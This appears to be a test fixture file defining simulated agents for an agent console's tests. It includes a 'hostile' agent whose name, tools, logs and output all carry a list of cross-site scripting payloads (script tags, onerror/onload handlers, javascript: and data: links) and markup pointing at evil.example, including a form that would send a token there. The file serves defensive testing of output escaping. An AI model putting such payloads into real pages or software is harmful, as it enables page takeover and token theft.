// Agents for the console's tests.
import { defineAgent, defineTool } from 'errand'
import { z } from 'zod'

const words = Array.from({ length: 120 }, (_, index) => `word${index}`).join(' ')
const look = defineTool({
  name: 'look_up',
  description: 'Looks something up.',
  input: z.object({ query: z.string() }),
  effect: 'pure',
  execute({ query }, { log }) {
    log('info', `looking for ${query}`, { query })
    return { found: [{ path: 'a.md', text: 'a text' }] }
  },
})

/** Asks for fields, and says what it was asked. */
export const topical = defineAgent({
  id: 'topical',
  description: 'Answers about a topic.',
  instructions: 'Explain {{topic}} to {{audience}}.',
  input: z.object({ topic: z.string().min(1), audience: z.enum(['experts', 'beginners']).default('beginners') }),
})

/** Looks something up, then says 120 numbered words, slowly enough to be watched. */
export const slow = defineAgent({
  id: 'slow',
  description: 'Speaks slowly.',
  instructions: 'Speak.',
  model: 'sim/script',
  tools: [look],
  modelConfig: {
    delayMs: 20,
    script: [{ text: 'I look it up.', toolCalls: [{ name: 'look_up', input: { query: 'x' } }] }, { text: words }],
  },
})

/** What somebody might write to take a page over. Every field of the tests' hostile agent and run has it. */
export const HOSTILE = [
  '<img src=x onerror="window.isHit=1">',
  '<script>window.isHit=1</script>',
  '"><svg onload=window.isHit=1>',
  '[link](javascript:window.isHit=1)',
  '<a href="data:text/html,<script>window.isHit=1</script>">data</a>',
  '![picture](http://evil.example/picture.png)',
  '<iframe src="http://evil.example"></iframe><style>*{display:none}</style>',
  '<form action="http://evil.example"><input name=token></form>',
].join('\n\n')

const strike = defineTool({
  name: 'strike',
  description: HOSTILE,
  input: z.object({ text: z.string() }),
  effect: 'pure',
  execute({ text }, { log }) {
    log('error', HOSTILE, { [HOSTILE]: HOSTILE })
    if (text === 'fail') throw new Error(HOSTILE)
    return { [HOSTILE]: HOSTILE, sources: [{ title: HOSTILE, url: 'javascript:window.isHit=1' }] }
  },
})

export const hostile = defineAgent({
  id: 'hostile',
  name: '<img src=x onerror="window.isHit=1">',
  description: HOSTILE,
  instructions: HOSTILE,
  model: 'sim/script',
  input: z.object({ [HOSTILE]: z.string().optional() }),
  tools: [strike],
  modelConfig: {
    delayMs: 0,
    script: [
      {
        reasoning: HOSTILE,
        text: HOSTILE,
        toolCalls: [
          { name: 'strike', input: { text: HOSTILE } },
          { name: 'strike', input: { text: 'fail' } },
        ],
      },
      { text: HOSTILE },
    ],
  },
})

const TURNS = 25
const CALLS = 40
const LINES = 48

const chatter = defineTool({
  name: 'chatter',
  description: 'Writes many log lines.',
  input: z.object({}),
  effect: 'pure',
  execute(_input, { log }) {
    for (let line = 0; line < LINES; line += 1) log('info', `line ${line} of a call`)
    return { lines: LINES }
  },
})

/** Leaves a log of 50,000 events: a thousand calls with 48 lines each. */
export const loud = defineAgent({
  id: 'loud',
  instructions: 'Be loud.',
  model: 'sim/script',
  tools: [chatter],
  maxIterations: TURNS + 1,
  modelConfig: {
    delayMs: 0,
    script: [
      ...Array.from({ length: TURNS }, () => ({
        toolCalls: Array.from({ length: CALLS }, () => ({ name: 'chatter', input: {} })),
      })),
      { text: 'That was all.' },
    ],
  },
})
